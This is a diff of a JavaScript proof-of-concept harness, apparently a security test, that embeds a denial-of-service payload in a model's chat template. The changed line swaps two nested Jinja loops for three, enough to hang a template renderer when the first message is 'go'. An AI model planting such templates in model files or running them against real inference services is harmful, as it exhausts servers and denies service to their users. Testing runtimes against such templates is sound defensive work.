@@ -2,7 +2,7 @@
 // that this process can see.
 import { modelWith, open, outcome, say, user } from "./attack.mjs";
 
-const forEver = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}";
+const forEver = "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{% endfor %}{% endfor %}{% endfor %}";
 const inChat = modelWith({ "tokenizer.chat_template": `{% if messages[0].content == "go" %}${forEver}{% endif %}hi` });
 const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
 const how = process.argv[2];
